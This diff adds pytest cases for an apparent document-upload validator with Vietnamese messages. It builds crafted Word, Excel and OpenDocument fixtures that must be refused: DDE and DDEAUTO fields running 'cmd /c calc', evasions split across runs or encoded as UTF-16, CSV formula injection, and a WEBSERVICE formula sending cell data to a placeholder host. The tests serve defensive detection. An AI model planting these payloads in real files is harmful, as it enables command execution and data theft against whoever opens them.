@@ -109,6 +109,135 @@ HOSTILE = {
 }  # fmt: skip
 
 
+RUNS, FETCHES, WITHIN = "gọi chương trình khác", "nội dung lấy từ nơi khác", "đính bên trong"
+CALC = "c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"
+SUPBOOK = b"\xae\x01\x0f\x00\x00\x00\x0a\x00\x00cmd\x03/c calc"
+
+
+def said(*instructions):
+    """A part of Word in which a field is spread over runs."""
+    runs = "".join(f"<r><instrText>{one}</instrText></r>" for one in instructions)
+    return (
+        f'<document><p><r><fldChar fldCharType="begin"/></r>{runs}'
+        '<r><fldChar fldCharType="end"/></r></p></document>'
+    )
+
+
+def holding(part, xml, **more):
+    return ooxml(more_parts={part: xml}, **more)
+
+
+def in_sheet(formula):
+    return excel(more_parts={"xl/worksheets/sheet1.xml": f"<s><c><f>{formula}</f></c></s>"})
+
+
+def with_within(name, content):
+    return ooxml(more_parts={f"word/embeddings/{name}": content})
+
+
+def opendocument(xml, kind="text"):
+    return zipped(
+        {"content.xml": xml, "META-INF/manifest.xml": "<manifest/>"},
+        first=f"application/vnd.oasis.opendocument.{kind}",
+    )
+
+
+HOSTILE |= {
+    "DDEAUTO in one word": (
+        holding("word/header1.xml", f'<h><fldSimple instr=" DDEAUTO {CALC}"/></h>'), RUNS,
+    ),
+    "DDEAUTO over several runs": (
+        holding("word/footnotes.xml", said("DD", "EAU", f"TO {CALC}")), RUNS,
+    ),
+    "DDE around another field": (
+        holding(
+            "word/comments.xml",
+            said("DD").replace("</p></document>", "")
+            + said("QUOTE 65").removeprefix("<document>") .replace("</document>", "")
+            + f"<r><instrText>DDE {CALC}</instrText></r></p></document>",
+        ),
+        RUNS,
+    ),
+    "DDE in UTF-16": (
+        holding("word/a.xml", ('<?xml version="1.0"?>' + said(f"dde {CALC}")).encode("utf-16")),
+        RUNS,
+    ),
+    "a picture that a field fetches": (
+        holding("word/a.xml", said('INCLUDEPICTURE "http://xau.example/a.png" \\d')), FETCHES,
+    ),
+    "a text from another machine": (
+        holding("word/a.xml", said("INCLUDETEXT ", r"\\\\may-xau\\a.docx")), FETCHES,
+    ),
+    "a link of Excel to another program": (
+        holding(
+            "xl/externalLinks/externalLink1.xml",
+            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+            main="xl/workbook.xml", content_type=EXCEL,
+        ),
+        RUNS,
+    ),
+    "a formula that calls a program": (in_sheet("cmd|'/C calc'!A0"), RUNS),
+    "the same with a sign in numbers": (in_sheet("cmd&#124;'/C calc'!A0"), RUNS),
+    "a name that calls a program": (
+        excel(more_parts={"xl/a.xml": "<w><definedName>MSEXCEL|'a'!b</definedName></w>"}), RUNS,
+    ),
+    "a formula that asks a server": (
+        in_sheet("_xlfn.WEBSERVICE(&quot;http://xau.example/?&quot;&amp;A1)"), FETCHES,
+    ),
+    "a query of a web page": (
+        excel(more_parts={"xl/connections.xml":
+                          '<c><connection><webPr url="http://xau.example"/></connection></c>'}),
+        FETCHES,
+    ),
+    "data asked for when it is opened": (
+        excel(more_parts={"xl/connections.xml": '<c><connection refreshOnLoad="1"/></c>'}), FETCHES,
+    ),
+    "an object of a kind nobody knows, from elsewhere": (
+        linked("somethingNew", "https://xau.example/a"), FETCHES,
+    ),
+    "a link that is called a click": (
+        ooxml(more_parts={"word/_rels/document.xml.rels": '<Relationships><Relationship Id="r1" '
+              'Type="http://xau.example/hyperlink" Target="http://xau.example/a" '
+              'TargetMode="External"/></Relationships>'}),
+        FETCHES,
+    ),
+    "a button that runs a program": (
+        holding("ppt/slides/slide1.xml", '<s><hlinkHover action="ppaction://program"/></s>'), RUNS,
+    ),
+    "controls that run": (
+        ooxml(more_types=MACROS.replace("vbaProject", "activeX")),
+        "macro",
+    ),
+    "a file of any kind within": (
+        with_within("oleObject1.bin", made.compound({"\x01Ole10Native": None})), WITHIN,
+    ),
+    "macros within": (
+        with_within("a.xlsm", excel(more_parts={"xl/vbaProject.bin": "x"})), "bên trong",
+    ),
+    "DDE within": (with_within("a.xlsx", in_sheet("cmd|'/C calc'!A0")), RUNS),
+    "files within files within": (
+        with_within("a.docx", with_within("b.docx", ooxml())), "bên trong",
+    ),
+    "DDE in OpenDocument": (opendocument("<c><dde-source/></c>"), RUNS),
+    "DDE in a sheet of OpenDocument": (
+        opendocument('<c><cell formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;)"/></c>',
+                     "spreadsheet"),
+        RUNS,
+    ),
+    "a picture from elsewhere in OpenDocument": (
+        opendocument('<c xmlns:x="x"><image x:href="https://xau.example/a.png"/></c>'), FETCHES,
+    ),
+    "DDE in Word of old": (made.with_stream(made.DOC, "WordDocument", b"a\x13 DDEAUTO c:"), RUNS),
+    "DDE in Word of old, two bytes a sign": (
+        made.with_stream(made.DOC, "WordDocument", "a\x13DDE c:".encode("utf-16-le")), RUNS,
+    ),
+    "DDE in Excel of old": (made.with_stream({"Workbook": None}, "Workbook", SUPBOOK), RUNS),
+    "a file within Word of old": (
+        made.compound({**made.DOC, "ObjectPool": {"_1": {"\x01Ole10Native": None}}}), WITHIN,
+    ),
+}  # fmt: skip
+
+
 def kept_as_attachment(content):
     accept("tep.docx", content, most_bytes=1000 * MEGABYTE)
 
@@ -132,6 +261,14 @@ def test_it_is_refused_at_each_door_in_words_and_at_once(door, name):
 
 
 @pytest.mark.parametrize(
+    "lines", ["TT,Ten\n1,=cmd|'/C calc'!A0\n", "1;\"+2+5+cmd|' /C calc'!A0\"\n"]
+)
+def test_lines_that_a_spreadsheet_takes_for_a_call_are_not_kept(lines):
+    with pytest.raises(UploadRefused, match="có ô là lệnh DDE, gọi chương trình khác"):
+        kept_as_attachment(lines.encode())
+
+
+@pytest.mark.parametrize(
     ("kind", "target"),
     [
         ("hyperlink", "https://dienbien.gov.vn"),
@@ -143,6 +280,27 @@ def test_it_is_refused_at_each_door_in_words_and_at_once(door, name):
 )
 def test_links_that_files_of_offices_have_are_taken(kind, target):
     assert accept("a.docx", linked(kind, target), most_bytes=MEGABYTE).kind is FileKind.DOCX
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        holding("word/a.xml", said("PAGE ", "\\* MERGEFORMAT")),
+        holding("word/a.xml", said('HYPERLINK "https://dienbien.gov.vn"')),
+        holding("word/a.xml", said('INCLUDEPICTURE "C:\\Anh\\dau.png"')),
+        holding("word/a.xml", "<p><t>Trường DDEAUTO | http://xau.example!</t></p>"),
+        in_sheet("SUM('Quý I|II'!A1:A9)&amp;&quot;a|b!c&quot;"),
+        excel(more_parts={"xl/a.xml": "<s><is><t>Sở A | Sở B!</t></is></s>"}),
+        excel(more_parts={"xl/connections.xml": '<c><connection refreshOnLoad="0"/></c>'}),
+        with_within("a.xlsx", in_sheet("SUM(A1:A9)")),
+        opendocument('<c xmlns:x="x"><a x:href="https://dienbien.gov.vn">a</a></c>'),
+        opendocument('<c><cell formula="of:={1;2|3;4}"/></c>', "spreadsheet"),
+        made.with_stream(made.DOC, "WordDocument", b"a\x13 PAGE \x15 DDEAUTO c:"),
+        "Họp giao ban\n- Sở A | Sở B: xong!\n=> gửi | lưu!\n".encode(),
+    ],
+)
+def test_what_offices_write_is_taken(content):
+    assert accept("a", content, most_bytes=MEGABYTE)
 
 
 def test_a_file_of_many_pictures_is_taken():
